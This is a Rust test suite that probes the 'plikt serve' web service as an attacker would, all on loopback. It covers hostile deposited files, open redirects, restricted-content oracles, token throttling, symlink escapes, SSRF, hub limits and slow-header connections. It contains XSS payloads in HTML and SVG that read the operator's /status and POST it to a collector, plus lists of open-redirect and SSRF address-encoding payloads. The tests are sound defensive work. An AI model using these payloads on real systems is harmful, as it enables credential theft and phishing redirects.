//! The attacker's probe (issue 34): `plikt serve` on loopback, a publisher that deposits
//! hostile files, and requests as someone on the internet would send them, each door
//! of the security chapter in turn. The browser parts run in Debian's chromium
//! (`tests/web/probe.py`). Every request stays on loopback: addresses that would leave
//! the machine are tested only through the classifier (`fetch::address`).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{
    Env, Response, Server, Serving, TestItem, date, exchange, free_port, get, get_with, locs,
    plikt, post, python, root, text,
};

const OPS: &str = "operators-token-0123456789abcdef-xyz";
const DEST: &str = "libris-token-0123456789abcdef-0123456";

/// A deposited page whose script reads the operators' `/status` and sends it away.
fn hostile_html(collector: &str) -> Vec<u8> {
    format!(
        "<!doctype html><title>public</title><script>document.title='ran';\
         fetch('/status').then(r=>r.text()).then(t=>fetch('{collector}/stolen',\
         {{method:'POST',body:t,mode:'no-cors'}}));</script>"
    )
    .into_bytes()
}

fn hostile_svg(collector: &str) -> Vec<u8> {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/status').then(r=>r.text())\
         .then(t=>fetch('{collector}/svg',{{method:'POST',body:t,mode:'no-cors'}}))\">\
         <rect width=\"10\" height=\"10\"/></svg>"
    )
    .into_bytes()
}

/// The feed with the item of `guid` made `restricted`.
fn restrict(feed: &str, guid: &str) -> String {
    let at = feed.find(&format!(">{guid}</guid>")).expect("the item");
    let end = at + feed[at..].find("</item>").expect("its end");
    let item = feed[at..end].replace(
        "<dcterms:accessRights>gratis<",
        "<dcterms:accessRights>restricted<",
    );
    format!("{}{item}{}", &feed[..at], &feed[end..])
}

/// A served collection: deposit 1 public (an HTML page, an SVG, a text), deposit 2
/// restricted; a second publisher `other` (never harvested) for the Source
/// Description; an operator, and a Destination of `test` only.
struct Probe {
    env: Env,
    serving: Option<Serving>,
    base: String,
    feed: Arc<Mutex<String>>,
    files: Arc<Mutex<Files>>,
    collector: Server,
    _publisher: Server,
}

type Files = std::collections::HashMap<String, (String, Vec<u8>)>;

impl Probe {
    fn start(name: &str, extra: &str) -> Self {
        let collector = Server::with_handler(|_| Response::status(204));
        let c = collector.url("");
        let feed = Arc::new(Mutex::new(String::new()));
        let files: Arc<Mutex<Files>> = Arc::default();
        let (f, fs) = (feed.clone(), files.clone());
        let publisher = Server::with_handler(move |req| match req.path.as_str() {
            "/feed.xml" => Response::ok(f.lock().unwrap().clone()),
            p if p.starts_with("/a/") => Response::file(b"<p>article</p>".to_vec(), "text/html"),
            p => fs
                .lock()
                .unwrap()
                .get(p)
                .cloned()
                .map_or(Response::status(404), |(m, b)| Response::file(b, &m)),
        });
        let base = publisher.url("");
        files.lock().unwrap().extend(
            [
                ("/public.html", "text/html", hostile_html(&c)),
                ("/logo.svg", "image/svg+xml", hostile_svg(&c)),
                ("/note.txt", "text/plain", b"just text".to_vec()),
                ("/secret.txt", "text/plain", b"restricted words".to_vec()),
            ]
            .map(|(p, m, b)| (p.to_string(), (m.to_string(), b))),
        );
        let item = |guid: &str, minutes: i64, paths: &[&str]| {
            let mut it = TestItem::new(guid, &date(minutes), &format!("{base}/a/{guid}"));
            for p in paths {
                let (m, b) = files.lock().unwrap()[*p].clone();
                it = it.content(&format!("{base}{p}"), &m, &b);
            }
            it
        };
        *feed.lock().unwrap() = restrict(
            &crate::support::feed(&[
                item("secret-1", 1, &["/secret.txt"]),
                item("open-1", 0, &["/public.html", "/logo.svg", "/note.txt"]),
            ]),
            "secret-1",
        );
        let env = Env::plain(name, &publisher.url("/feed.xml"), "")
            .with_env("PLIKT_PROBE_OPS", OPS)
            .with_env("PLIKT_PROBE_DEST", DEST)
            .with_config(&format!(
                "[[publisher]]\nid = \"other\"\nname = \"Other\"\nfeed = \"https://other.example/f.xml\"\nschedule = \"0 0 3 * * *\"\n\
                 [[operator]]\nid = \"ops\"\ntoken_env = \"PLIKT_PROBE_OPS\"\n\
                 [[destination]]\nid = \"libris\"\ntoken_env = \"PLIKT_PROBE_DEST\"\npublishers = [\"test\"]\n{extra}"
            ));
        let base = env.listen_on_free_port();
        let o = env.cmd(&["harvest", "--publisher", "test"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let o = env.cmd(&["publish"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let serving = Serving::start(&env, &base);
        Self {
            env,
            serving: Some(serving),
            base,
            feed,
            files,
            collector,
            _publisher: publisher,
        }
    }

    /// `plikt serve` started anew (nothing kept in its memory).
    fn restart(&mut self) {
        self.serving = None;
        self.serving = Some(Serving::start(&self.env, &self.base));
    }

    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base, path.trim_start_matches('/'))
    }

    /// The URLs of the public set's resources, by the publisher's file name.
    fn resource(&self, file: &str) -> String {
        let list = get(&self.url("resourcesync/test/resourcelist.xml"), None).2;
        let want = self.files.lock().unwrap()[&format!("/{file}")].1.clone();
        locs(&String::from_utf8_lossy(&list))
            .into_iter()
            .find(|u| u.contains("/d/") && get(u, None).2 == want)
            .unwrap_or_else(|| panic!("{file} is not in the Resource List"))
    }
}

/// The value of header `name` in a lower-cased head.
fn header<'h>(head: &'h str, name: &str) -> Option<&'h str> {
    head.lines()
        .find_map(|l| l.strip_prefix(&format!("{name}: ")))
        .map(str::trim)
}

/// A head without the lines that differ between any two answers (`date`).
fn stable(head: &str) -> Vec<&str> {
    head.lines().filter(|l| !l.starts_with("date:")).collect()
}

/// Sends `request` as raw bytes to the server at `base`: the status and head.
fn raw(base: &str, request: &[u8]) -> (u16, String) {
    let (status, head, _) = exchange(
        base.trim_start_matches("http://").trim_end_matches('/'),
        request,
    );
    (status, head)
}

fn assert_inert(what: &str, head: &str) {
    assert_eq!(
        header(head, "x-content-type-options"),
        Some("nosniff"),
        "{what}: {head}"
    );
    let csp = header(head, "content-security-policy").unwrap_or("");
    assert!(
        csp.contains("default-src 'none'") && csp.contains("sandbox"),
        "{what}: {head}"
    );
}

#[test]
fn deposited_pages_and_svg_are_served_inert_and_run_nothing_in_chromium() {
    let p = Probe::start("probe-inert", "");
    let html = p.resource("public.html");
    let svg = p.resource("logo.svg");
    let note = p.resource("note.txt");
    for (url, bytes, attachment) in [
        (&html, hostile_html(&p.collector.url("")), true),
        (&svg, hostile_svg(&p.collector.url("")), true),
        (&note, b"just text".to_vec(), false),
    ] {
        let (status, head, body) = get(url, None);
        assert_eq!(status, 200, "{url}");
        assert_eq!(body, bytes, "{url}: the deposited bytes, unchanged");
        assert_inert(url, &head);
        assert_eq!(
            header(&head, "content-disposition") == Some("attachment"),
            attachment,
            "{url}: {head}"
        );
    }
    // Every other answer plikt gives about what it did not write: documents, errors.
    for path in [
        "resourcesync/test/resourcelist.xml",
        ".well-known/resourcesync",
        "d/test/999/nothing",
        "no/such/page",
        "resourcesync/test/restricted/capabilitylist.xml",
    ] {
        let (_, head, _) = get(&p.url(path), None);
        assert_inert(path, &head);
    }

    // In a browser whose every request carries the operator's credentials, as after
    // opening the dashboard: nothing runs, nothing is sent anywhere.
    let o = Command::new(python())
        .arg(root().join("tests/web/probe.py"))
        .args(["--authorization", &format!("Bearer {OPS}")])
        .args(["--open", &html, "--open", &svg])
        .args(["--base", &p.base])
        .output()
        .unwrap();
    let out: Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("probe.py printed no JSON ({e}):\n{}", text(&o)));
    for page in out["opened"].as_array().expect("pages") {
        assert_ne!(page["title"], "ran", "{page}");
        let requests: Vec<&str> = page["requests"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap())
            .collect();
        assert!(
            requests.iter().all(|r| *r == page["url"].as_str().unwrap()),
            "only the file itself is requested: {page}"
        );
    }
    assert!(p.collector.received().is_empty(), "nothing leaves the page");
    // The browser's own check that it can tell: the same script, served by a page
    // that is allowed to run it, does reach the collector.
    assert_eq!(out["control_ran"], true, "{out}");
}

#[test]
fn the_language_switch_redirects_only_to_paths_of_plikts_own() {
    let p = Probe::start("probe-redirect", "");
    let own = |location: &str| {
        location.starts_with('/')
            && !location[1..].starts_with(['/', '\\'])
            && location.bytes().all(|b| b.is_ascii_graphic() && b != b'\\')
    };
    let mut nexts: Vec<String> = (0u8..0x20)
        .chain([0x7f])
        .flat_map(|c| {
            [
                format!("/%{c:02X}/evil.example/phish"),
                format!("/%{c:02X}%2Fevil.example"),
                format!("%{c:02X}//evil.example"),
            ]
        })
        .collect();
    nexts.extend(
        [
            "//evil.example",
            "%2F%2Fevil.example",
            "/%5Cevil.example",
            "%5C%5Cevil.example",
            "/%5C/evil.example",
            "http://evil.example/",
            "https:evil.example",
            "https%3A%2F%2Fevil.example",
            "javascript:alert(1)",
            "/%E2%80%8B/evil.example",
            "evil.example",
        ]
        .map(String::from),
    );
    for next in &nexts {
        let (status, head, _) = get(&p.url(&format!("lang/en?next={next}")), None);
        assert_eq!(status, 303, "{next}");
        let location = header(&head, "location").unwrap_or("");
        assert!(own(location), "next={next} -> location {location:?}");
        assert_eq!(location, "/", "next={next}: an unsafe next goes home");
    }
    let (_, head, _) = get(&p.url("lang/en?next=/rules/R107%3Fx"), None);
    assert_eq!(header(&head, "location"), Some("/rules/r107?x"));
    // Raw control bytes in the request line never give a redirect.
    for c in (0u8..0x20).chain([0x7f]) {
        let mut req = b"GET /lang/en?next=/".to_vec();
        req.push(c);
        req.extend_from_slice(b"/evil.example HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let (status, head) = raw(&p.base, &req);
        let location = header(&head, "location").unwrap_or("/");
        assert!(
            own(location) || status >= 400,
            "raw {c:#x}: {status} {head}"
        );
    }
    // In Chromium, each answer leaves the browser on plikt's origin.
    let mut c = Command::new(python());
    c.arg(root().join("tests/web/probe.py"))
        .args(["--base", &p.base]);
    for next in &nexts {
        c.args(["--redirect", next]);
    }
    let o = c.output().unwrap();
    let out: Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("probe.py printed no JSON ({e}):\n{}", text(&o)));
    let base = p.base.trim_end_matches('/');
    for r in out["redirects"].as_array().expect("redirects") {
        let at = r["final"].as_str().unwrap();
        assert!(at.starts_with(&format!("{base}/")), "{r}");
    }
    assert_eq!(out["redirects"].as_array().unwrap().len(), nexts.len());
}

#[test]
fn restricted_material_answers_exactly_as_what_does_not_exist() {
    let p = Probe::start("probe-oracle", "");
    let secret = get(
        &p.url("resourcesync/test/restricted/resourcelist.xml"),
        Some(&format!("Bearer {DEST}")),
    );
    assert_eq!(secret.0, 200);
    let secret_urls: Vec<String> = locs(&String::from_utf8_lossy(&secret.2))
        .into_iter()
        .filter(|u| u.contains("/d/"))
        .collect();
    assert!(!secret_urls.is_empty());
    let file = &secret_urls[0];
    let (n, key) = {
        let rest = file.split("/d/test/").nth(1).unwrap();
        let (n, key) = rest.split_once('/').unwrap();
        (n.to_string(), key.to_string())
    };
    let v = p
        .env
        .one(&format!("SELECT id FROM versions WHERE deposit_id = {n}"));
    let missing = get(&p.url("d/test/999/"), None);
    assert_eq!(missing.0, 404);
    for (what, url) in [
        ("deposit", p.url(&format!("d/test/{n}/"))),
        ("file", file.clone()),
        ("version", p.url(&format!("d/test/{n}/v{v}/{key}"))),
        ("record", p.url(&format!("d/test/{n}/metadata.xml"))),
        (
            "version's record",
            p.url(&format!("d/test/{n}/v{v}/metadata.xml")),
        ),
    ] {
        for auth in [
            None,
            Some("Bearer wrong-token"),
            Some(&format!("Bearer {OPS}") as &str),
        ] {
            let got = get(&url, auth);
            assert_eq!(
                (got.0, stable(&got.1), &got.2),
                (missing.0, stable(&missing.1), &missing.2),
                "{what} with {auth:?}: as if it did not exist"
            );
        }
        assert_eq!(get(&url, Some(&format!("Bearer {DEST}"))).0, 200, "{what}");
    }
    // A guessed key of a public deposit answers as a wrong one.
    assert_eq!(
        get(
            &p.url(&format!("d/test/{n}/{}", "0".repeat(key.len()))),
            None
        )
        .0,
        404
    );

    // The Source Description: only the sets each reader may read.
    let sd = |auth: Option<&str>| {
        let b = get(&p.url(".well-known/resourcesync"), auth).2;
        locs(&String::from_utf8_lossy(&b))
    };
    let public = sd(None);
    assert!(
        public.iter().all(|u| !u.contains("restricted")),
        "{public:?}"
    );
    let libris = sd(Some(&format!("Bearer {DEST}")));
    assert!(
        libris
            .iter()
            .any(|u| u.ends_with("test/restricted/capabilitylist.xml")),
        "{libris:?}"
    );
    assert!(
        !libris.iter().any(|u| u.contains("other/restricted")),
        "{libris:?}"
    );

    // A version that was public stays public at its version URL when a later version
    // is restricted; the deposit's current URL then answers as missing.
    let note = p.resource("note.txt");
    let (dep, note_key) = {
        let rest = note.split("/d/test/").nth(1).unwrap();
        let (d, k) = rest.split_once('/').unwrap();
        (d.to_string(), k.to_string())
    };
    let text = p.feed.lock().unwrap().replace(&date(0), &date(5));
    *p.feed.lock().unwrap() = restrict(&text, "open-1");
    let o = p.env.cmd(&["harvest", "--publisher", "test"]);
    assert_eq!(o.status.code(), Some(0), "{}", crate::support::text(&o));
    let first = p.env.one(&format!(
        "SELECT MIN(id) FROM versions WHERE deposit_id = {dep}"
    ));
    assert_eq!(
        get(&p.url(&format!("d/test/{dep}/v{first}/{note_key}")), None).0,
        200
    );
    assert_eq!(
        get(&p.url(&format!("d/test/{dep}/{note_key}")), None).0,
        404
    );
    assert_eq!(
        get(
            &p.url(&format!("d/test/{dep}/{note_key}")),
            Some(&format!("Bearer {DEST}"))
        )
        .0,
        200
    );
}

#[test]
fn credentials_are_long_private_case_blind_and_throttled() {
    let p = Probe::start(
        "probe-auth",
        "[server]\nauth_failures_per_minute = 6\nauth_failure_burst = 5\n",
    );
    let status = p.url("status");
    assert_eq!(
        get(&status, Some(&format!("bearer {OPS}"))).0,
        200,
        "RFC 9110: any case"
    );
    assert_eq!(get(&status, Some(&format!("BEARER {OPS}"))).0, 200);
    // Wrong guesses from one address: the burst, then 429 for every try, even the
    // right one, with Retry-After.
    let mut codes = Vec::new();
    for i in 0..8 {
        codes.push(get(&status, Some(&format!("Bearer guess-{i}"))).0);
    }
    assert_eq!(codes[..5], [401; 5], "{codes:?}");
    assert!(codes[5..].iter().all(|c| *c == 429), "{codes:?}");
    let (s, head, _) = get(&status, Some(&format!("Bearer {OPS}")));
    assert_eq!(s, 429, "the right token waits too, or guessing would go on");
    let wait: u64 = header(&head, "retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{head}");
    // Without credentials, the public sets are not slowed.
    assert_eq!(
        get(&p.url("resourcesync/test/resourcelist.xml"), None).0,
        200
    );

    // Refused at start: a short token, and a token file others may read.
    let check = |toml: &str, env: &[(&str, &str)], want: &[&str]| {
        let cfg = p.env.dir.join("start.toml");
        std::fs::write(&cfg, format!("data_dir = \"data\"\n{toml}")).unwrap();
        let mut c = plikt();
        c.args(["serve", "--config"]).arg(&cfg);
        for (k, v) in env {
            c.env(k, v);
        }
        let o = c.output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        for w in want {
            assert!(text(&o).contains(w), "{w}: {}", text(&o));
        }
    };
    check(
        "[[operator]]\nid = \"o\"\ntoken_env = \"T\"\n",
        &[("T", "x")],
        &["1 characters", "at least 32", "openssl rand -base64 32"],
    );
    check(
        "[[destination]]\nid = \"d\"\nusername = \"d\"\npassword_env = \"T\"\n",
        &[("T", "short-password")],
        &["at least 32"],
    );
    let file = p.env.dir.join("token");
    std::fs::write(&file, OPS).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let toml = format!(
        "[[operator]]\nid = \"o\"\ntoken_file = \"{}\"\n",
        file.display()
    );
    check(&toml, &[], &["mode 0644", "chmod 600"]);
}

#[test]
fn the_data_folder_is_private_and_no_symlink_leads_out_of_it() {
    let mut p = Probe::start("probe-files", "");
    let note = p.resource("note.txt");
    // A harvest and publish under umask 022 (the test's plikt runs through `sh`).
    let o = Command::new("sh")
        .args(["-c", "umask 022; exec \"$0\" \"$@\""])
        .arg(env!("CARGO_BIN_EXE_plikt"))
        .args(["publish", "--config"])
        .arg(&p.env.config)
        .envs(p.env.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    use std::os::unix::fs::PermissionsExt;
    let mut seen = 0;
    let mut stack = vec![p.env.data()];
    while let Some(dir) = stack.pop() {
        let mode = std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode & 0o027, 0, "{}: {mode:o}", dir.display());
        for e in std::fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            if meta.is_dir() {
                stack.push(e.path());
            } else {
                let mode = meta.permissions().mode() & 0o777;
                assert_eq!(mode & 0o137, 0, "{}: {mode:o}", e.path().display());
                seen += 1;
            }
        }
    }
    assert!(seen > 10, "the catalog, blobs and documents were looked at");

    // Symlinks placed in the served folders are not followed out of them.
    let outside = p.env.dir.join("outside.xml");
    std::fs::write(&outside, "<secret>from elsewhere</secret>").unwrap();
    let doc = p
        .env
        .data()
        .join("www/resourcesync/test/capabilitylist.xml");
    std::fs::remove_file(&doc).unwrap();
    std::os::unix::fs::symlink(&outside, &doc).unwrap();
    let (s, _, body) = get(&p.url("resourcesync/test/capabilitylist.xml"), None);
    assert_eq!(s, 404);
    assert!(!String::from_utf8_lossy(&body).contains("elsewhere"));
    use sha2::Digest;
    let sha = hex::encode(sha2::Sha256::digest(b"just text"));
    let blob = p.env.data().join("blobs").join(&sha[..2]).join(&sha);
    std::fs::remove_file(&blob).unwrap();
    std::os::unix::fs::symlink(&outside, &blob).unwrap();
    p.restart();
    let (s, _, body) = get(&note, None);
    assert_ne!(s, 200);
    assert!(!String::from_utf8_lossy(&body).contains("elsewhere"));
}

#[test]
fn the_validator_refuses_internal_names_without_saying_what_they_resolve_to() {
    // No `[web] allow_private`: the service as on the internet. Every target resolves
    // to loopback, so a broken guard still sends nothing off the machine.
    let p = Probe::start("probe-ssrf", "");
    let port = free_port();
    for target in [
        format!("http://localhost:{port}/f.xml"),
        format!("http://127.0.0.2:{port}/f.xml"),
        format!("http://[::1]:{port}/f.xml"),
        format!("http://[::ffff:127.0.0.1]:{port}/f.xml"),
        format!("http://2130706433:{port}/f.xml"),
    ] {
        let body = format!("{{\"url\": \"{target}\"}}");
        let (status, head, answer) =
            post(&p.url("api/validate"), "application/json", body.as_bytes());
        let answer = String::from_utf8_lossy(&answer);
        assert_eq!(status, 422, "{target}: {head}{answer}");
        assert!(
            answer.contains("not a public address"),
            "{target}: {answer}"
        );
        if target.contains("localhost") {
            assert!(
                !answer.contains("127.0.0.1") && !answer.contains("::1"),
                "the address a name resolved to is not told: {answer}"
            );
        }
    }
}

fn subscribe(base: &str, callback: &str) -> (u16, String) {
    let topic = format!("{base}resourcesync/test/change/");
    let form = format!(
        "hub.mode=subscribe&hub.topic={}&hub.callback={}",
        url_encode(&topic),
        url_encode(callback)
    );
    let host = base.trim_start_matches("http://").trim_end_matches('/');
    let req = format!(
        "POST /hub HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{form}",
        form.len()
    );
    raw(base, req.as_bytes())
}

fn url_encode(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
}

#[test]
fn the_hub_limits_requests_per_address_and_verifications_in_flight() {
    let p = Probe::start(
        "probe-hub",
        "[notification]\nallow_private = true\ntimeout_secs = 4\nsubscriptions_per_minute = 2\nsubscription_burst = 4\nmax_verifications = 2\nmax_verifications_per_host = 1\n",
    );
    // Callbacks that take their time to answer the verification.
    let slow = || {
        Server::with_handler(|_| {
            std::thread::sleep(Duration::from_secs(3));
            Response::status(404)
        })
    };
    let (a, b) = (slow(), slow());
    let base = &p.base.clone();
    let a_url = a.url("/cb");
    let b_url = b.url("/cb").replace("127.0.0.1", "localhost");
    assert_eq!(subscribe(base, &a_url).0, 202);
    let (s, head) = subscribe(base, &a_url);
    assert_eq!(
        s, 503,
        "a second verification to the same host waits: {head}"
    );
    assert!(header(&head, "retry-after").is_some(), "{head}");
    assert_eq!(subscribe(base, &b_url).0, 202, "another host has a slot");
    // Two in flight: a third host waits for the global cap (never contacted).
    let third = format!("http://127.0.0.3:{}/cb", free_port());
    let (s, head) = subscribe(base, &third);
    assert_eq!(s, 503, "max_verifications: {head}");
    // Out of the burst of 4: 429 with Retry-After, before any verification.
    let (s, head) = subscribe(base, &third);
    assert_eq!(s, 429, "{head}");
    assert!(header(&head, "retry-after").is_some(), "{head}");
    let started = Instant::now();
    while a.received().is_empty() || b.received().is_empty() {
        assert!(started.elapsed() < Duration::from_secs(10), "verified");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(a.received().len(), 1, "one verification to a's host");
}

#[test]
fn slow_headers_control_bytes_and_if_range_are_answered_as_the_rfcs_say() {
    let p = Probe::start("probe-server", "[server]\nheader_timeout_secs = 2\n");
    // Connections that drip their headers are closed at the header timeout.
    let host = p
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let drips: Vec<_> = (0..8)
        .map(|_| {
            let host = host.clone();
            std::thread::spawn(move || {
                let mut s = TcpStream::connect(&host).unwrap();
                s.set_read_timeout(Some(Duration::from_millis(300)))
                    .unwrap();
                let started = Instant::now();
                s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n").unwrap();
                let mut buf = [0u8; 256];
                while started.elapsed() < Duration::from_secs(20) {
                    if s.write_all(b"X").is_err() {
                        break;
                    }
                    match s.read(&mut buf) {
                        Ok(0) => break,
                        Ok(_) => break,
                        Err(_) => {}
                    }
                }
                started.elapsed()
            })
        })
        .collect();
    for d in drips {
        let took = d.join().unwrap();
        assert!(took < Duration::from_secs(8), "closed after {took:?}");
    }
    // The service still answers others.
    assert_eq!(get(&p.url("healthz"), None).0, 200);

    // A control byte in a path: 400, and no ERROR in the log.
    for path in [
        "d/test/1/%00",
        "d/test/1/a%00b",
        "resourcesync/test/%00.xml",
        "rules/%09",
        "x%7f",
    ] {
        let (s, head, _) = get(&p.url(path), None);
        assert_eq!(s, 400, "{path}");
        assert_inert(path, &head);
    }
    let log = std::fs::read_to_string(p.env.dir.join("serve.log")).unwrap();
    assert!(!log.contains("ERROR"), "{log}");

    // If-Range (RFC 9110 §13.1.5): a range only while the tag still matches.
    let note = p.resource("note.txt");
    let (_, head, _) = get(&note, None);
    let etag = header(&head, "etag").unwrap().to_string();
    let (s, _, body) = get_with(&note, &[("Range", "bytes=0-3"), ("If-Range", &etag)]);
    assert_eq!((s, body.as_slice()), (206, &b"just"[..]));
    let (s, _, body) = get_with(&note, &[("Range", "bytes=0-3"), ("If-Range", "\"other\"")]);
    assert_eq!((s, body.as_slice()), (200, &b"just text"[..]));
}
